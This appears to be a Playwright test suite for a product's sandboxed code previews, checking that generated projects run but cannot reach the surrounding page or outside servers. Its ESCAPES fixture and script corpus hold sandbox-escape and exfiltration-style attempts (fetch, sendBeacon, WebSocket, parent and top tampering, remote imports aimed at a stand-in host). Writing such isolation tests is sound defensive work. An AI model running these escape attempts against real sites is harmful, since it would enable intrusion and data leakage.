"""Previews in Chromium: a project runs, and reaches nothing but itself."""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext

from tests.faults.g23_scripts import CORPUS
from tests.people import signed_in
from tests.playbook import Playbook
from tests.preview_page import Around, Elsewhere, folder_of, generated
from tests.server import ServerProcess

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

PROJECT = {
    "index.html": """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>x</title>
<link rel="stylesheet" href="css/a.css">
<script src="js/classic.js" defer></script><script type="module" src="js/a.mjs"></script>
</head><body><p id="where">字</p><p id="classic"></p><p id="module"></p><p id="inline"></p>
<img src="i.svg" alt=""><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E">
<script>inline.textContent = document.compatMode</script></body></html>
""",
    "css/a.css": "@import './b.css'; #where { color: rgb(1, 2, 3) }",
    "css/b.css": "#where { width: 77px; background: url(../i.svg) }",
    "js/classic.js": "classic.textContent = getComputedStyle(where).color",
    "js/a.mjs": "import { b } from './b.mjs'; module.textContent = b + innerOf()\n"
    "function innerOf() { return [...document.images].map((i) => i.complete && i.naturalWidth) }",
    "js/b.mjs": "export const b = 'b'",
    "i.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5"/>',
}

FAULTY = """<!doctype html><title>x</title><script src="none.js"></script>
<script>console.error("said", { toString() { throw 1 } }, new Error("inner"))</script>
<script>
null.x
</script>
<script>Promise.reject(new Error("nobody waits"))</script>
<script src="https://cdn.example/x.js"></script>
<script>addEventListener("load", () => {
  for (let n = 0; n < 1000; n++) console.error("x".repeat(9000));
})</script>
"""

#: Each tries to reach the page around it, this server or another one; what succeeds is told.
ESCAPES = """<!doctype html><title>x</title><link rel="dns-prefetch" href="http://{host}/">
<link rel="stylesheet" href="http://{host}/x.css"><link rel="prefetch" href="http://{host}/p">
<link rel="preload" as="image" href="http://{host}/p.png"><link rel="manifest" href="http://{host}/m">
<img src="http://{host}/x.png"><img src="/static/icon.svg" onload="out.push('static')">
<video src="http://{host}/v"></video><object data="http://{host}/o"></object>
<iframe src="http://{host}/f"></iframe><iframe src="/status"></iframe>
<script src="http://{host}/x.js"></script>
<form id="form" action="http://{host}/form" method="post"></form>
<a id="link" href="http://{host}/link" target="_top">x</a>
<a id="ping" ping="http://{host}/" href="#x">x</a>
<script>
const out = [];
const tries = {{
  fetch: () => fetch("http://{host}/fetch", {{ mode: "no-cors" }}),
  here: () => fetch("/status"),
  self: () => fetch("index.html"),
  xhr: () => new Promise((yes, no) => {{
    const request = new XMLHttpRequest();
    request.onload = yes; request.onerror = no;
    request.open("GET", "http://{host}/xhr"); request.send();
  }}),
  beacon: () => navigator.sendBeacon("http://{host}/beacon") ? Promise.reject() : null,
  socket: () => new Promise((yes, no) => {{
    const socket = new WebSocket("ws://{host}/");
    socket.onopen = yes; socket.onerror = no;
  }}),
  events: () => new Promise((yes, no) => {{
    const events = new EventSource("http://{host}/");
    events.onopen = yes; events.onerror = no;
  }}),
  worker: () => new Promise((yes, no) => {{
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = yes; worker.onerror = no;
  }}),
  module: () => import("http://{host}/m.js"),
  image: () => new Promise((yes, no) => {{
    const image = new Image(); image.onload = yes; image.onerror = no;
    image.src = "http://{host}/i";
  }}),
  parent: () => parent.document.title,
  set: () => {{ parent.pwned = 1 }},
  top: () => {{ top.location = "http://{host}/top" }},
  hash: () => {{ parent.location.hash = "x" }},
  opens: () => open("http://{host}/open") || Promise.reject(),
  cookie: () => {{ document.cookie = "a=1" }},
  storage: () => localStorage.setItem("a", 1),
  database: () => new Promise((yes, no) => {{
    const asked = indexedDB.open("a"); asked.onsuccess = yes; asked.onerror = no;
  }}),
  service: () => navigator.serviceWorker.register("sw.js"),
  frame: () => {{ parent.frames[0].frameElement.sandbox = "allow-same-origin" }},
}};
(async () => {{
  for (const [name, attempt] of Object.entries(tries)) {{
    try {{ await attempt(); out.push(name) }} catch {{ }}
  }}
  form.submit(); link.click(); ping.click();
  parent.postMessage({{ got: out }}, "*");
  location = "http://{host}/self";
}})();
</script>"""


@pytest_asyncio.fixture(loop_scope="session")
async def context(browser: Browser) -> AsyncIterator[BrowserContext]:
    """A person's browser, in which previews may write to the console what they like."""
    context = await browser.new_context()
    yield context
    await context.close()


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[Elsewhere]:
    async with Elsewhere().listening() as listening:
        yield listening


async def test_a_project_runs_with_its_styles_scripts_modules_and_images(
    context, scripted_server: ServerProcess, playbook: Playbook
) -> None:
    await generated(scripted_server, playbook, "runs", PROJECT)
    around = await Around.opened(context, scripted_server)
    await around.show("runs")
    assert await around.text("#classic") == "rgb(1, 2, 3)"
    assert await around.text("#inline") == "CSS1Compat"
    await around.page.frame_locator("iframe").locator("#module", has_text="b").wait_for()
    assert await around.text("#module") == "b5,300"
    assert await around.page.evaluate("told") == []


async def test_a_signed_in_persons_preview_loads_without_their_cookie(
    context, serve_for_session, scripted, playbook: Playbook
) -> None:
    server = serve_for_session(access="ticket", **scripted)
    [ada] = signed_in(server, "preview-ada", rooms=("codegen", "project"))
    await generated(server, playbook, "preview-ada", PROJECT, ticket=ada.ticket)
    around = await Around.opened(context, server)
    shown: list[int] = []
    around.page.on("response", lambda reply: shown.append(reply.status))
    await around.show("preview-ada")
    assert shown == [401]
    await context.add_cookies([{"name": "sessionid", "value": ada.session, "url": server.url}])
    await around.show("preview-ada")
    assert await around.text("#classic") == "rgb(1, 2, 3)"
    await around.page.frame_locator("iframe").locator("#module", has_text="b").wait_for()


async def test_the_page_around_is_told_of_errors(
    context, scripted_server: ServerProcess, playbook: Playbook
) -> None:
    await generated(scripted_server, playbook, "faulty", {"index.html": FAULTY})
    around = await Around.opened(context, scripted_server)
    await around.show("faulty")
    messages = await around.told(100)
    assert all(message["source"] == "tokenwire-preview" for message in messages)
    assert all(len(message["message"]) <= 2000 for message in messages)
    said = {message["message"].split("\n")[0]: message["line"] for message in messages}
    assert said["Uncaught TypeError: Cannot read properties of null (reading 'x')"] == 4
    assert said["Error: nobody waits"] == 0
    assert any(text.startswith("could not load http") and "none.js" in text for text in said)
    assert any(text.startswith("said ? Error: inner") for text in said)
    assert "blocked: script-src-elem https://cdn.example/x.js" in said
    assert len(messages) == 100


async def test_a_preview_reaches_neither_the_page_nor_a_server(
    context, scripted_server: ServerProcess, playbook: Playbook, elsewhere: Elsewhere
) -> None:
    page = ESCAPES.format(host=elsewhere.host)
    refresh = f'<meta http-equiv="refresh" content="0;url=http://{elsewhere.host}/">'
    files = {"index.html": page, "refresh.html": refresh}
    await generated(scripted_server, playbook, "escapes", files)
    around = await Around.opened(context, scripted_server)
    folder = await folder_of(scripted_server, "escapes")
    await around.show("escapes", f"{folder}/index.html")
    await around.page.wait_for_function("told.some((message) => message.got)")
    assert [each["got"] for each in await around.told(1) if "got" in each] == [[]]
    await around.leads_nowhere()
    await around.show("escapes", f"{folder}/refresh.html")
    await around.leads_nowhere()
    assert await around.page.title() == "around"
    assert await around.page.evaluate("window.pwned") is None
    assert len(context.pages) == 1
    assert await context.cookies() == []
    assert elsewhere.calls == 0


async def test_no_script_of_the_corpus_runs_in_the_page_around_nor_calls_elsewhere(
    context, scripted_server: ServerProcess, playbook: Playbook, elsewhere: Elsewhere
) -> None:
    js = "top.pwned=parent.pwned=window.pwned=1"
    codes = [code.format(js=js).replace("evil.example", elsewhere.host) for code in CORPUS]
    files = {"index.html": ""}
    files |= {f"{n}.html": code.replace("\0", "") for n, code in enumerate(codes)}
    files |= {f"{n}.svg": code.replace("\0", "") for n, code in enumerate(codes)}
    await generated(scripted_server, playbook, "corpus", files)
    around = await Around.opened(context, scripted_server)
    folder = await folder_of(scripted_server, "corpus")
    for path in files:
        await around.show("corpus", f"{folder}/{path}")
        assert await around.page.evaluate("window.pwned") is None, files[path]
    assert await around.page.title() == "around"
    assert around.page.url.endswith("/around")
    assert len(context.pages) == 1
    assert elsewhere.calls == 0
